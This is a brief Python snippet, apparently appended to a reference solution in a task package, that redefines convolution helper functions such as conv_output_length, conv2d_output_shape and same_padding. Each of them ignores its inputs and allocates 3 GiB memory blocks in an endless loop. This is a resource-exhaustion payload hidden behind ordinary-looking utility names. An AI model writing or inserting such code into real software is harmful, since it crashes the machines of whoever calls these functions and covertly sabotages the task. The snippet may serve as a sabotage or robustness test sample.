# Appended to the reference solution: allocates (and touches) 3 GiB blocks without bound.
_hoard = []


def conv_output_length(*args, **kwargs):
    while True:
        _hoard.append(bytearray(3 << 30))


conv2d_output_shape = pool_output_length = same_padding = conv_transpose_output_length = conv_output_length
